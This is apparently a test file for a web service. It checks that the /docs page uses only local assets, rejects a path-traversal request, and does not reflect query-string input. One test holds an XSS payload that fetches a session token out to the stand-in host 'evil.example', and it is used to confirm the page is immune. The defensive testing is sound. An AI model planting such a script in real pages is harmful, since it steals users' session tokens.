"""``/docs`` works offline: its assets come from the package, never from a CDN; no CDN-backed ``/redoc``."""

from __future__ import annotations

import re

from tests.service.apptools import served


def test_the_api_docs_page_loads_only_local_assets() -> None:
    with served() as (client, *_):
        assert client.get("/redoc").status_code == 404
        html = client.get("/docs")
        assert html.status_code == 200 and html.headers["content-type"].startswith("text/html")
        sources = re.findall(r'(?:src|href)="([^"]+)"', html.text)
        assert sources and all(s.startswith("/") for s in sources), sources
        assert "cdn" not in html.text.lower()
        for source in sources:
            asset = client.get(source)
            assert asset.status_code == 200, source
            assert len(asset.content) > 100


def test_an_unknown_vendored_asset_is_not_found() -> None:
    with served() as (client, *_):
        assert client.get("/static/vendor/../console.py").status_code == 404
        assert client.get("/static/vendor/nothing.js").status_code == 404


def test_the_api_docs_page_is_the_same_page_whatever_its_query_string() -> None:
    injected = "<script>fetch('//evil.example/?t=' + sessionStorage.getItem('token'))</script>"
    with served() as (client, *_):
        plain = client.get("/docs")
        for query in ({"html": injected}, {"html": ""}, {"token": "t", "html": "x"}):
            answer = client.get("/docs", params=query)
            assert answer.status_code == 200, query
            assert answer.text == plain.text, query
            assert "evil.example" not in answer.text
